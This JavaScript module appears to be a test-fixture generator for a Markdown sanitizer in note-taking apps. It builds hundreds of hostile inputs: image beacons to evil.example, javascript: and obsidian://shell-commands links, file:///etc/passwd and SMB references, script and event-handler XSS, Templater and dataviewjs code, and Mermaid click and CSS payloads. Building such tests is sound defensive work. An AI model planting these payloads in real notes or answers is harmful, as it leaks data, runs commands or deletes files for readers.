// Answers that want to load something, run something, or link to where nobody looks.
// Each payload is put in many places of an answer; what is code there should stay code.

const evil = "https://evil.example/x.png";

// Blocks of code that a plugin draws or runs, by the name that it has registered.
export const acting = [
  "dataview", "dataviewjs", "datacore", "datacorejs", "datacorejsx", "datacorets", "datacoretsx", "js-engine",
  "meta-bind", "meta-bind-button", "meta-bind-embed", "meta-bind-js-view", "button", "tasks", "query", "base",
  "ad-note", "ad-tip", "ad-warning", "cardlink", "embed", "link", "run-js", "run-python", "chart", "chartsview",
  "tracker", "leaflet", "map", "mapview", "kanban", "excalidraw", "plantuml", "graphviz", "dot", "d2", "abc", "vega",
  "vega-lite", "markmap", "wavedrom", "flow", "sequence", "tikz", "smiles", "calendar", "timeline", "todoist",
  "customjs", "templater", "quickadd", "space-lua", "space-style", "template", "toc", "table-of-contents",
  "itinerary", "gpx", "media", "iframe", "html-preview", "sheet", "sqlseal", "database", "db-query", "poll", "mind",
];

const blocks = {
  dataview: `LIST "![](${evil}?" + file.name + ")"`,
  dataviewjs: `fetch("${evil}")`,
  cardlink: `url: ${evil}\nimage: ${evil}`,
  "meta-bind": `VIEW[{x}][text(renderMarkdown)]`,
  button: "name Delete\ntype command\naction Delete current file",
  "ad-note": `![](${evil})`,
};

// Text that acts where it is text; code that holds it is code in every app.
export const texts = [
  `![](${evil})`, `![a](<${evil}>)`, `![a][r]\n\n[r]: ${evil}`, `![r]\n\n[r]: ${evil}`, `!![a](//evil.example/x.png)`,
  `\\![a](${evil})`, `!\\[a](${evil})`, `&#33;[a](${evil})`, `![a](HTTPS://evil.example/x)`, `![a](https&colon;//evil.example/x)`,
  `![a](file:///etc/passwd)`, `![a](data:image/svg+xml;base64,PHN2Zz4=)`, `![a](\\\\\\\\evil\\\\share\\\\x.png)`, `![[${evil}]]`,
  `<img src="${evil}">`, `<img src=${evil}>`, `<img\nsrc=${evil}>`, `\\<img src="${evil}">`, `<svg onload="globalThis.ran=1"></svg>`,
  `<iframe src="${evil}"></iframe>`, `<video src="${evil}" autoplay></video>`, `<script>globalThis.ran=1</script>`,
  `<div style="background:url(${evil})">x</div>`, `<b style="background:url(${evil})">x</b>`, `<i onmouseover="globalThis.ran=1">x</i>`,
  `<link rel=stylesheet href=${evil}>`, `<object data=${evil}></object>`, `<embed src=${evil}>`, `<base href=${evil}>`,
  `<form action=${evil}><input autofocus onfocus=globalThis.ran=1></form>`, `<a href="javascript:globalThis.ran=1">x</a>`,
  `<details open ontoggle=globalThis.ran=1>x</details>`, `<math><mtext><img src=${evil}></mtext></math>`,
  `<audio src=${evil} autoplay></audio>`, `<style>@import '${evil}';</style>`, `<meta http-equiv=refresh content="0;url=${evil}">`,
  "[x](javascript:globalThis.ran=1)", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))",
  "[x](<javascript:alert(1)>)", "[x](<java\tscript:alert(1)>)", "[x]( javascript:alert(1) )", "[x](\njavascript:alert(1))",
  "[x](obsidian://shell-commands/?execute=abc)", "[x](obsidian://advanced-uri?commandid=app%3Adelete-file)",
  "[x](<obsidian://shell-commands/?vault=My vault&execute=abc>)", "[x](file:///etc/passwd)", "[x](file:%2f%2f/etc/passwd)",
  "[x](data:text/html,<script>alert(1)</script>)", "[x](smb://evil.example/share)", "[x](ms-msdt:/id)", "[x](vscode://file/x)",
  "[x](//evil.example/share)", "[x](/\\evil.example/share)", "[x](\\\\\\\\evil.example\\\\share)", "[x](command:workbench.action.quit)",
  "[x](vbscript:msgbox(1))", "[x](tel:+1234)", "[x](logseq://graph/x)", "[x](joplin://x-callback-url/openNote)", "[x](zotero://x)",
  "[r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: <obsidian://shell-commands/?execute=a>", "[r]\n\n[r]:\njavascript:alert(1)",
  "[a][r]\n\n[r]: file:///etc/passwd 'title'", "[^1]\n\n[^1]: javascript:alert(1)", "[![a](b.png)](javascript:alert(1))",
  "<javascript:alert(1)>", "<obsidian://open?vault=x>", "<file:///etc/passwd>", "obsidian://shell-commands/?execute=abc",
  "file:///etc/passwd", "see smb://evil.example/share now", "[**x**](javascript:alert(1))", "[`x`](javascript:alert(1))",
  "[x](javascript:alert(1) \"title\")", "[a\\]b](javascript:alert(1))", "[a[b]c](javascript:alert(1))",
  `{{iframe ${evil}}}`, `{{video ${evil}}}`, "{{renderer :x, y}}", `{{{iframe ${evil}}}}`, "{{query (todo now)}}", "{{embed [[x]]}}",
  `[:img {:src "${evil}"}]`, `[:div {:on-click "x"} [:img {:src "${evil}"}]]`, `[:iframe {:src "${evil}"}]`, `[:a {:href "javascript:alert(1)"} "x"]`,
  `@@html: <img src="${evil}">@@`, `@@hiccup: [:img {:src "${evil}"}]@@`,
  `#+BEGIN_QUERY\n{:query (todo now)}\n#+END_QUERY`, `#+BEGIN_EXPORT html\n<img src="${evil}">\n#+END_EXPORT`, `  #+begin_export html\n<img src="${evil}">\n  #+end_export`,
  `[k:: "![](${evil})"]`, `[k:: \\![a](${evil})]`, `(k:: !\\[a](${evil}))`, `[k:: &#33;[a](${evil})]`, "[k:: \\`$= globalThis.ran=1\\`]",
  `[k:: "\\\\\\![a](${evil})"]`, `[k:: \\] \\[ \\![a](${evil})]`, "[k:: \\[x\\](javascript:alert(1))]", `[&lt;img src=x&gt;:: y]`,
  `[k:: "\\\\\\<img src=${evil}>"]`,
  `$\\href{javascript:alert(1)}{x}$`, `$$\\href{obsidian://shell-commands/?execute=a}{x}$$`, `$\\style{background:url(${evil})}{x}$`,
  `$\\bbox[background:url(${evil})]{x}$`, `$$\n\\require{html}\\href{${evil}}{x}\n$$`, `$\\mmlToken{mi}[href="javascript:alert(1)"]{x}$`,
  `$\\def\\x{\\href}\\x{javascript:alert(1)}{y}$`, `$\\class{external-link}{x}$`, `$\\includegraphics{${evil}}$`,
  "<b>`<img src=" + evil + ">`</b>", "a <kbd>x\n`<img src=" + evil + ">` y</kbd>", "x <sub>\\<img src=" + evil + "></sub>",
  "    = this.file.name", "    $= globalThis.ran=1",
  "$ {{iframe " + evil + "}}", "a `b {{iframe " + evil + "}} c", "a ` b `` ` {{iframe " + evil + "}} `",
  "![](../../x.png)", "![a](b/../../../c.png)", "![](.%2e/%2E%2e/x.png)", "![](/../x.png)", "![a][r]\n\n[r]: ../../x.png", "![](<../../a b.png>)",
  "![[../../x]]", "![[a/../../x.png|100]]", "![[../../x#h]]",
  "[x](emjs:globalThis.ran=1)", "[x](<emjs:a b>)", "![x](emjs:a)", "[r]\n\n[r]: emjs:a", "<emjs:a>", "emjs://a", "[x](x-unknown.a+b-1:y)", "<x-unknown:y>",
  `> [!note] {{iframe ${evil}}}`, `> [!{{iframe ${evil}}}] x`, `> [!note]- x\n> {{video ${evil}}}`, `> [!tip]+ {{{renderer :x}}}`,
  `::: mermaid\nflowchart LR\nA@{ img: "${evil}", w: 60, h: 60 }\n:::`, `::: {style='display:none'}\nx`, "///\nhtml | div\n///",
  `Nice text\n{ style='background-image:url(${evil})' }`, "[x](a.md){onmouseover=alert(1)}", "x {.cls onclick=alert(1)}", "{: onclick=alert(1)}", "x {onclick\\=alert(1)}", "x \\{onclick=alert(1)}",
  "x &#123;onclick=alert(1)}", "x {onclick&#61;alert(1)}", "${net.proxyFetch('x')}", "{[Page: Delete]}", "`<b>`{=html}", "`<b>`{ =html}", "\\input{/etc/passwd}", "\\write18{id}", "--8<-- \"/etc/passwd\"", "<<[/etc/passwd]",
  "<<(/etc/passwd)", "!!!include(/etc/passwd)!!!", "a !!!! Include (/etc/passwd) !!!", "{!/etc/passwd!}", "vim: set ro noma:", "a vi:noma=1", "Local Variables:\neval: (shell-command \"id\")\nEnd:",
  "[x](../../../../Windows/System32/calc.exe)", "[x](.\\./.\\./x)", "[x](a/%2e%2e/x)", "[r]\n\n[r]: ../../x", "[[javascript:alert(1)|x]]", "[[//evil.example/x]]", "![[//evil.example/share/x.png]]", "[[../../x]]",
  "$\\Newextarrow{\\a}{5}{6}$", "$\\DeclarePairedDelimiter{\\a}{b}{c}$", "$$\\definecolor{red}{rgb}{1,1,1}$$",
  `> > [!note] {{embed [[x]]}}`, `> [!note] \\{{iframe ${evil}}}`, `\\{{iframe ${evil}}}`, `<https://evil.example/{{iframe>}}`,
];

// Links whose targets leave open, to some readers, where the code behind them begins.
const unclear = ["[a](b\"c) ", "[a](<x y>) ", "[a][b`c] ", "[^q]: ", "See [Vienna](https://en.wikipedia.org/wiki/Vienna_(band)). ", "a ` b ", "[a](b\"c) \\`"];

// Text that acts in code spans, or in code of any kind.
export const codes = [
  ...["`= \"!\" + \"[](" + evil + ")\"`", "`$= globalThis.ran=1`", "`VIEW[{x}][text]`", "`dc= 1`"].flatMap((code) => unclear.map((before) => before + code)),
  "`emjs:require('child_process')`", "`emera:<X/>`", "`r system('id')`", "`{python} 1`", "```sh\n--8<-- \"/etc/passwd\"\n```", "```sh\n# vim: set ro:\n```", "`` `= x` ``",
  "`$= globalThis.ran=1`", "`= this.file.name`", "`=\"![](" + evil + ")\"`", "` = elink(\"javascript:alert(1)\")`", "`` = this.x ``", "`=this.x`",
  "`\u00a0= this.x`", "`$dc= 1`", "`dc= 1`", "`VIEW[{x}][text(renderMarkdown)]`", "`BUTTON[delete]`", "`INPUT[text:x]`",
  "```\n= this.file.name\n```", "```js\n\n  $= globalThis.ran=1\n```", "~~~text\n=elink(\"javascript:1\")\n~~~", "```python\n$=globalThis.ran=1\n```",
  "`[k:: ![](" + evil + ")]`", "`(k:: <img src=" + evil + ">)`", "`[<img src=" + evil + ">:: k]`", "`` [k:: `$= globalThis.ran=1`] ``",
  "- item\n\n  ```js\n  x = \"[k:: ![](" + evil + ")]\"\n  ```", "`[k:: [x](javascript:alert(1))]`", "`[k:: ![a] [r]: " + evil + "]`",
  "<% globalThis.ran=1 %>", "<%* globalThis.ran=1 %>", "\\<%* globalThis.ran=1 %>", "`<%* globalThis.ran=1 %>`", "```js\n<%* globalThis.ran=1 %>\n```",
  "```erb\n<% globalThis.ran=1 %>\n```", "```ejs\n<%- globalThis.ran=1 -%>\n```", "```erb\n<%! (globalThis.ran=1) %>\n```", "<%_ globalThis.ran=1 _%>",
  "```html\n<%-- (globalThis.ran=1) --%>\n```", "<%~ globalThis.ran=1 %>", "`<%\nglobalThis.ran=1 %>`",
  "```js\n```x\n{{iframe " + evil + "}}\n```", "````md\n```dataview\n```\n{{iframe " + evil + "}}\n````", "~~~js\n```\n[:img {:src \"" + evil + "\"}]\n~~~",
  "```js\n~~~\n<div><img src=" + evil + "></div>\n```", "`a\n{{iframe " + evil + "}} b`", "```js\n   ~~~\n![](" + evil + ")\n```",
  "```js\n~~~\n@@html: <img src=" + evil + ">@@\n```", "```js\n~~~\n#+BEGIN_EXPORT html\n<img src=" + evil + ">\n#+END_EXPORT\n```",
  "```js\n~~~\nobsidian://shell-commands/?execute=a\n[x](file:///etc/passwd)\n```", "```a``{{iframe " + evil + "}}```",
  "```js\n- {{iframe " + evil + "}}\n```", "```md\n# a\n![](" + evil + ")\n```", "```js\n1. [:img {:src \"" + evil + "\"}]\n```", "```md\nid:: x\n{{video " + evil + "}}\n```",
  ...["id:: x", "# id:: x", "- TODO [#A] id:: x", "\"i^d\":: x", "(id:: x", "custom_id:: x", "template:: daily", "    id:: x", "- a\n  template:: daily"],
  ":PROPERTIES:\n:id: x\n:END:", "- TODO :properties:\n  :id: x\n  :end:", "1. ```js\n   - id:: x\n   ```", "<b>a</b> id:: x", "$$x$$ id:: x",
  "```a```\n\n```js\n{{iframe " + evil + "}}\n```", "# ```js\n```js\n{{iframe " + evil + "}}\n```", "````md\n```\n````\n\n```js\n{{iframe " + evil + "}}\n```",
];

// Lines of which answers are made at random, and what stands before one.
const lines = [
  "- item", "* item", "+ item", "1. item", "1) item", "# head", "text", "> quote", "", "", "", "```js", "```js", "```", "```", "~~~", "~~~js", "````md", "````",
  ...[`{{iframe ${evil}}}`, `![](${evil})`, `[:img {:src "${evil}"}]`].flatMap((t) => [t, "- " + t, "1. " + t, "# " + t, "`a " + t + "`"]),
  "- ```js", "* ```js", "> ```js", "# ```js", "a ``` b", "```a```", "id:: x", "- TODO id:: x", ":PROPERTIES:", ":id: x", ":END:", "$$", "---", "| a |", "TODO x", "- [ ] a", "[^1]: x", "a:: b", ": def", "  ", "9 x",
];
const before = ["", "", "", "", "  ", "   ", "    ", "> "];

// makeRandom makes answers of two to eight lines, the same each time.
function makeRandom(count) {
  let seed = 14;
  const pick = (list) => {
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
    return list[Math.floor((seed / 2 ** 32) * list.length)];
  };
  return Array.from({ length: count }, () => Array.from({ length: pick([2, 3, 4, 5, 6, 7, 8]) }, () => pick(before) + pick(lines)).join("\n"));
}

// Diagrams that are more than drawings.
export const diagrams = [
  `graph TD\nA-->B\nclick A "javascript:alert(1)"`, `graph TD\nA-->B\nclick A href "${evil}"`, `graph TD;A-->B;click A "${evil}" _blank`,
  `graph TD\nA["<img src='${evil}'>"]`, `graph TD\nA["<a href='javascript:alert(1)'>x</a>"]`, `graph TD\nA["#lt;img src='${evil}'#gt;"]`,
  `graph TD\nA["#60;img src='${evil}'#62;"]`, `graph TD\nA["&lt;img src='${evil}'&gt;"]`, `graph TD\nA@{ img: "${evil}", label: "x" }`,
  `%%{init: {"themeCSS": "*{background:url(${evil})}"}}%%\ngraph TD\nA-->B`, `---\nconfig:\n  themeCSS: "*{background:url(${evil})}"\n---\ngraph TD\nA-->B`,
  `---\ntitle: x\nconfig: {themeCSS: "*{background:url(${evil})}"}\n---\ngraph TD\nA-->B`, `graph TD\nA-->B\nstyle A fill:url(${evil})`,
  `graph TD\nA-->B\nclassDef x background:url(${evil})\nclass A x`, `graph TD\nA-->B\nlinkStyle 0 stroke:url(${evil})`,
  `sequenceDiagram\nlink Alice: x @ ${evil}\nAlice->>Bob: hi`, `sequenceDiagram\nlinks Alice: {"x": "javascript:alert(1)"}\nAlice->>Bob: hi`,
  `classDiagram\nclass A\nclick A href "${evil}"`, `classDiagram\nclass A\nlink A "javascript:alert(1)"`, `classDiagram\nclass A\ncallback A "f"`,
  `gantt\ntitle x\nsection s\na :a1, 2024-01-01, 3d\nclick a1 href "${evil}"`, `graph TD\nA["\`![x](${evil})\`"]`, `graph TD\nA["$$\\href{${evil}}{x}$$"]`,
  `sequenceDiagram\nrect url(${evil})\nA->>B: x\nend`, `C4Context\nPerson(a, "x", $link="${evil}")`, `C4Context\nPerson(a, "x", $sprite="${evil}")`,
  `mindmap\n root((<img src=${evil}>))`, `stateDiagram-v2\n[*] --> A\nclick A href "${evil}"`, `erDiagram\nA ||--o{ B : "<img src=${evil}>"`,
  `timeline\ntitle <img src=${evil}>\n2024 : x`, `pie title <img src=${evil}>\n"a" : 1`, `graph TD\nA-->B\n click A call f()`,
  `graph TD\nA-->B\n%% x\nclick A "${evil}"`, `flowchart TD\nA@{ icon: "fa:x", "im\\x67": "${evil}" }`, `kanban\n a["<img src=${evil}>"]`,
  `journey\ntitle x\nsection <img src=${evil}>\na: 5: b`, `graph TD\nA:::x-->B\nclassDef x fill:#fff,background:u\\72l(${evil})`,
  `quadrantChart\ntitle <img src=${evil}>\na: [0.1, 0.2]`, `gitGraph\ncommit id: "<img src=${evil}>"`, `xychart-beta\ntitle "<img src=${evil}>"\nx-axis [a]\nbar [1]`,
];

for (const blank of ["\u00a0", "\u3000", "\u2003", "\u1680"]) {
  diagrams.push(`flowchart LR\nA-->B\n${blank}click A "${evil}"`, `flowchart LR\nA-->B\nclick${blank}A "${evil}"`);
  diagrams.push(`sequenceDiagram\n${blank}link Alice: x @ ${evil}\nAlice->>Bob: hi`, `classDiagram\nclass A\n${blank}link A "${evil}"`, `gantt\ntitle x\nsection s\na :a1, 2024-01-01, 3d\n${blank}click a1 href "${evil}"`);
}

// Where an answer may hold a text.
const places = [
  (t) => t, (t) => "Text before.\n\n" + t + "\n\nText behind.", (t) => "- item\n- " + indent(t, "  "), (t) => "1. " + indent(t, "   "),
  (t) => "> " + t.replaceAll("\n", "\n> "), (t) => "> [!note] Title\n> " + t.replaceAll("\n", "\n> "), (t) => "a `code` b " + t,
  (t) => "<b>x</b> " + t + " <sub>y</sub>", (t) => "# " + t, (t) => "| a | b |\n|---|---|\n| " + t.replaceAll("\n", " ").replaceAll("|", "\\|") + " | x |",
  (t) => "**" + t + "**", (t) => "a stray ` tick " + t, (t) => "~~~js\nlet x = 1\n~~~\n" + t, (t) => "    " + t.replaceAll("\n", "\n    "),
  (t) => "[k:: v] (j:: w) " + t, (t) => "$x$ and $$y$$ " + t,
];

// Code that shows a text, and is no code to some readers.
const wraps = [
  (t) => "`" + t.replaceAll("\n", " ").replaceAll("`", "'") + "`", (t) => "`` " + t.replaceAll("\n", " ") + " ``", (t) => "`a\n" + t.replaceAll("`", "'").replaceAll("\n\n", "\n") + " b`",
  (t) => "```js\n" + t + "\n```", (t) => "~~~js\n" + t + "\n~~~", (t) => "````markdown\n```js\n" + t + "\n```\n" + t + "\n````", (t) => "- ```js\n  " + indent(t, "  ") + "\n  ```",
  (t) => "> ```html\n> " + t.replaceAll("\n", "\n> ") + "\n> ```",
];

function indent(t, by) {
  return t.replaceAll("\n", "\n" + by);
}

function fence(name, text, sign = "```") {
  return sign + name + "\n" + text + "\n" + sign;
}

// listHostile is every code in every place, and every other payload in every third, in turn, so
// that each place has its share.
// What ends a label of a diagram, or means something in one.
const labels = [
  `a"] --> b`, `"]\n  x["`, `click n1 href "javascript:alert(1)"`, `%%{init: {"theme": "x"}}%%`, `url(${evil})`, "#quot; &#60;img src=x&#62;", "end", "graph TD",
  "::icon(fa fa-book)", ":::urgent large", "))bang((", ")cloud(", "{{hexagon}}", "((circle))", "[square]", `id["x"]`, "`**bold** [x](${evil})`", "20% \"cheap\"",
  "(new)", "10:30", "a; b", "C:\\x\\n", "$$x^2$$", "$x$", "---", "***", "~~~", "``` mermaid", "mindmap", "root", "&lt;script&gt;", "&amp;lt;b&amp;gt;", "\u202ertl", "🙂 🇩🇪",
  "‹b›", "#35;", "#lt;img#gt;", "fa:fa-car", "@{shape: circle}", "style n1 fill:#f00", "classDef x fill:url(x)", "accTitle: x", "%% comment", "title\ttab",
];

// listHeadings are headings that want more than to be a topic of a mind map, each on one line.
export function listHeadings() {
  return [...texts, ...codes, ...labels, ...labels.map((l) => `x ${l} y`)].map((t) => t.replace(/\s*\n\s*/g, " "));
}

export function listHostile() {
  const out = [];
  const add = (kind, text) => out.push({ kind, text });
  texts.forEach((t, n) => {
    add("text", t);
    places.forEach((place, i) => (n + i) % 3 === 0 && add("text in text", place(t)));
    wraps.forEach((wrap, i) => (n + i) % 3 === 0 && add("text in code", wrap(t)));
  });
  codes.forEach((t, n) => {
    add("code", t);
    places.forEach((place) => add("code in text", place(t)));
  });
  for (const text of makeRandom(300)) add("lines", text);
  for (const name of acting) {
    const text = blocks[name] ?? `![](${evil})\nurl: ${evil}`;
    add("block", fence(name, text));
    add("block", "- item\n\n  " + indent(fence(" " + name.toUpperCase(), text, "~~~"), "  "));
    add("block", "> " + fence(name + " x=1", text).replaceAll("\n", "\n> "));
  }
  add("block", fence("data&#118;iew", blocks.dataview));
  add("block", fence("{dataview}", blocks.dataview));
  add("block", fence("dataview\u00a0js", blocks.dataview));
  add("block", fence("js {cmd=true}", "x"));
  add("block", fence('text {cmd="bash"}', "x"));
  add("block", "    " + indent(fence("dataviewjs", blocks.dataviewjs), "    "));
  add("block", fence("dataviewjs", blocks.dataviewjs).slice(0, -4));
  for (const d of diagrams) {
    add("diagram", fence("mermaid", d));
    add("diagram", "- item\n\n  " + indent(fence("mermaid", d), "  "));
  }
  return out;
}
